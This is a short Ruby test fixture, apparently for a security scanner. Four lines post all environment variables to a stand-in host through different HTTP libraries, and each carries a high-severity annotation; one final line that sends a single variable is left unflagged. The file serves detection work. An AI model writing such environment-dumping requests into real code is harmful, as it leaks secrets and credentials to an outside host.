require "net/http"
require "httparty"

Net::HTTP.post(URI("https://example.net/in"), ENV.to_h.to_json)
#^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ high: sends all variables of the environment to "https://example.net/in"
HTTParty.post("https://example.net/in", ENV.to_h)
#^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ high: sends all variables of the environment to "https://example.net/in"
RestClient.post("https://example.net/in", ENV.to_h.to_json)
#^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ high: sends all variables of the environment to "https://example.net/in"
Faraday.post("https://example.net/in", ENV.to_h.to_json)
#^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ high: sends all variables of the environment to "https://example.net/in"
Net::HTTP.post(URI("https://example.net/in"), { region: ENV["REGION"] }.to_json)
